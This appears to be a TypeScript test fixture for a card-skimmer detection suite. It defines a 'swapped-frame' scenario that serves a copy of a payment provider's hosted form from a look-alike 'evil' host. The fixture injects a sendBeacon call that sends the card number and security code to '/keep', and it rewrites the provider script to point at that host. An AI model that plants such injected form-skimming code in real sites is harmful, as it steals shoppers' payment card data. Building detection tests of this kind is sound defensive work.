import { holds, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';
import { hostedFrame } from '../site/hosted.ts';

export default skimmer({
  id: 'swapped-frame',
  why: "The provider's frame gets another address: a copy of its form on a host that reads like the provider's, which passes the card on so that the payment works.",
  covers: ['injection: fake form', 'disguise: known brand', 'hard: overlay'],
  base: 'hosted',
  install: (site) => {
    site.serve('evil/v1/fields', () =>
      hostedFrame.replace(
        "fetch('/v1/tokens', {",
        `navigator.sendBeacon('/keep', value('cc-number') + '|' + value('cc-csc')); fetch('${site.origins.pay}/v1/tokens', {`,
      ),
    );
    site.alter('pay/v1/pay.js', (code) =>
      code.replaceAll(site.origins.pay, site.origins.evil.replace('evil', 'pay.evil')),
    );
  },
  proof: holds((arrived) => bodies(arrived)),
});
